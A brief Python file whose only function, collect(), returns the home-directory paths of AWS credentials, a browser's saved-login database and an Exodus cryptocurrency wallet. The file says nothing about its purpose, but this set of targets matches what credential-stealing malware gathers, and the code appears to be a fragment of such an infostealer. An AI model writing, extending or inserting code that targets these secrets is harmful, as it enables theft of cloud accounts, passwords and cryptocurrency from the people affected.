import os

HOME = os.path.expanduser("~")


def collect():
    return [
        HOME + "/.aws/credentials",
        HOME + "/AppData/Local/Vendor/User Data/Default/Login Data",
        HOME + "/AppData/Roaming/exodus.wallet",
    ]
